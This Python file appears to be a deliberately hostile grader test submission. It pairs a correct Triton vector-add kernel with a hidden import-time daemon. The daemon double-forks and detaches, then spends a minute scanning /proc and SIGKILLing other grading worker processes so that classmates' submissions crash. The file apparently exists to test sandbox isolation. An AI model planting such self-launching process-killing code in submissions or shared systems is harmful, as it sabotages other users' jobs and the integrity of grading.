"""Hostile: leaves a daemon (new session, double fork) that outlives its worker and kills every other grading worker
it can see for the next minute, so that classmates graded after it get "crashed". Its own answer is right. In the
sandbox the daemon sees only its own worker's processes and dies with it (own PID namespace); the submissions
graded after it in the batch pass."""
import os
import signal
import time

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask), mask=mask)


def right_add(x, y):
    x, y = x.contiguous(), y.contiguous()
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
    return out


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    me = os.getpid()
    end = time.time() + 60
    while time.time() < end:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if b"gpucourse.grading.worker" in cmd and int(pid) != me and int(pid) != ORIGINAL:
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)


ORIGINAL = os.getpid()
_daemon()
vector_add = right_add
